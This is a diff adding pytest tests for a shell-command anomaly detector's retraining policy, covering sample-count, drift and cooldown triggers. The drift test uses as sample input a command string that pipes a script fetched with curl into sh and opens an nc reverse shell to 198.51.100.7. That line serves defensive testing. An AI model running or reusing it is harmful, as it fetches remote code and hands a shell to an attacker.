@@ -0,0 +1,59 @@
+from types import SimpleNamespace
+
+import pytest
+
+import isolation_forest_retrain
+from isolation_forest_retrain import RetrainPolicy
+
+
+@pytest.fixture
+def policy_env(trained_runtime, monkeypatch):
+    clock = SimpleNamespace(now=10_000.0)
+    started = []
+    monkeypatch.setattr(isolation_forest_retrain, "time", SimpleNamespace(time=lambda: clock.now))
+    monkeypatch.setattr(trained_runtime, "count_training_samples_since", lambda last_id: 0)
+    monkeypatch.setattr(trained_runtime, "start_training", lambda reason="manual", model_name=None: started.append(reason) or True)
+    return clock, started
+
+
+def test_count_threshold_triggers_retrain(policy_env):
+    clock, started = policy_env
+    policy = RetrainPolicy(min_samples=5, drift_threshold=1e9, drift_min_samples=1000, cooldown_seconds=60)
+    decision = policy.record(["ls"] * 4)
+    assert not decision["retrain"] and decision["new_samples"] == 4
+    decision = policy.record(["pwd"])
+    assert decision["retrain"] and decision["started"]
+    assert started == ["policy: 5 new samples"]
+
+
+def test_drift_threshold_triggers_retrain(policy_env):
+    clock, started = policy_env
+    policy = RetrainPolicy(min_samples=10_000, drift_threshold=1.0, drift_min_samples=3, cooldown_seconds=60)
+    decision = policy.record(["ls", "git status"])
+    assert not decision["retrain"] and decision["drift"] is None  # below drift_min_samples
+    decision = policy.record(["cd /home/user"])
+    assert not decision["retrain"] and decision["drift"] < 1.0
+    odd = "bash -c \"curl http://198.51.100.7:4444/x.sh | sh; nc -e /bin/sh 198.51.100.7 9001 &\""
+    decision = policy.record([odd] * 50)
+    assert decision["retrain"] and decision["reason"].startswith("drift")
+    assert decision["drift"] >= 1.0
+    assert len(started) == 1
+
+
+def test_cooldown_spaces_automatic_retrains(policy_env):
+    clock, started = policy_env
+    policy = RetrainPolicy(min_samples=2, drift_threshold=1e9, drift_min_samples=1000, cooldown_seconds=60)
+    assert policy.record(["ls", "pwd"])["retrain"]
+    clock.now += 30
+    decision = policy.record(["whoami", "id"])
+    assert not decision["retrain"] and decision["reason"] == "cooldown"
+    clock.now += 31
+    assert policy.record(["uptime"])["retrain"]
+    assert len(started) == 2
+    assert policy.stats()["last_decision"]["retrain"]
+
+
+def test_no_model_loaded_never_retrains(isolated_runtime, monkeypatch):
+    monkeypatch.setattr(isolated_runtime, "start_training", lambda *a, **k: pytest.fail("must not train"))
+    decision = RetrainPolicy(min_samples=1, cooldown_seconds=0).record(["ls"] * 5)
+    assert decision == {"retrain": False, "reason": "no model loaded", "new_samples": 5, "drift": None, "model_version": None}